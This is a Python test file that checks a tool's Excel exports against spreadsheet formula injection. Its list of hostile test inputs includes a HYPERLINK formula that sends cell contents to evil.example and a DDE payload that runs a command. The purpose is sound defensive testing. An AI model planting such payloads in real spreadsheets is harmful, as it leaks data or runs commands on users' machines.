"""Spreadsheet formula injection (issue 11, DESIGN §11): every cell written from data is a
string that no spreadsheet evaluates, reads back as typed, and a score sheet for experts or
candidates whose names start with "=" imports. (LibreOffice's view of the same files is in
test_office_suite.py.)"""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from collector import review as rv
from collector.printing import ReportInfo, summary_xlsx
from collector.review.sheet_xlsx import META, SHEET, export_xlsx, import_xlsx
from tests.conftest import make_record
from tests.review.helpers import candidate, fill_sheet

HOSTILE = ["=1+2", "+SUM(1,1)", "-3+4", "@NOW()", "\t=1+1", "\r=1+1",
           '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0"]


def data_cells(ws, first_row: int):
    for row in ws.iter_rows(min_row=first_row):
        for cell in row:
            if cell.value is not None:
                yield cell


@pytest.mark.parametrize("text", HOSTILE)
def test_summary_cells_from_data_are_text_and_read_back_as_typed(tmp_path, text):
    name = text[:30].strip()  # names are stripped on input; the formula stays
    records = [make_record(1, name=name, admin_post=text[:20]), make_record(2)]
    info = ReportInfo(unit=text, contact=text, channel=text)
    path = summary_xlsx(records, tmp_path / "s.xlsx", info).path
    wb = load_workbook(path)
    ws = wb["汇总表"]
    assert ws.cell(6, 2).value == name
    assert ws.cell(6, 2).data_type == "s" and ws.cell(6, 2).quotePrefix
    assert text in ws["A3"].value
    for sheet in wb.worksheets:
        for cell in data_cells(sheet, 1):
            assert cell.data_type in ("s", "n"), (sheet.title, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix, (sheet.title, cell.coordinate)
    # No formula anywhere in the file itself (a <f> element is what a spreadsheet evaluates).
    import zipfile

    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_score_sheet_for_formula_names_is_text_and_imports(store, tmp_path):
    names = ["=1+2", "-3+4", "@NOW()", "正常人选"]
    ids = [store.save(candidate(i, n, "盟市", "包头市")) for i, n in enumerate(names)]
    rnd = rv.create_round(store)
    expert = '=HYPERLINK("http://x.cn","专家")'
    rv.add_expert(store, rnd, expert)
    sheet = export_xlsx(store, rnd, expert, tmp_path / "s.xlsx")
    wb = load_workbook(sheet)
    ws = wb[SHEET]
    assert ws["E2"].value == expert and ws["E2"].data_type == "s" and ws["E2"].quotePrefix
    shown = [ws.cell(r, 3).value for r in range(5, 5 + len(names))]
    assert shown == names
    assert all(ws.cell(r, 3).data_type == "s" for r in range(5, 5 + len(names)))
    assert wb[META]["B3"].value == expert and wb[META]["B3"].data_type == "s"
    fill_sheet(sheet, {cid: 8 for cid in ids})
    result = import_xlsx(store, sheet)
    assert result.expert == expert and result.candidates == len(names)


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", " =1+1", "-", "@", "=", "正常"])
def test_put_text_marks_every_formula_start(tmp_path, text):
    from openpyxl import Workbook

    from collector.printing.cells import put_text

    wb = Workbook()
    put_text(wb.active, 1, 1, text)
    wb.save(tmp_path / "t.xlsx")
    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert cell.data_type == "s" and cell.value.replace("\n", "\r") == text
    assert cell.quotePrefix == (text != "正常")
